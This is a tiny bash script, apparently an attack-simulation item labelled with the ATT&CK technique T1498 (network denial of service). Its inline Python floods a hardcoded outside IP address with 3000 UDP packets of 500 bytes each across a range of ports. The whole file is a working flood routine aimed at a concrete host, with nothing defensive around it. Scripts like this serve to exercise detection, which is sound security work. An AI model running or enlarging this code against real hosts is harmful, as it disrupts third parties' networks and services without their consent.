#!/bin/bash
# T1498: Packets are thrown at somebody.
python3 -c '
import socket
s=socket.socket(2,2)
for i in range(3000): s.sendto(b"x"*500,("44.128.66.66",i%100+1000))'
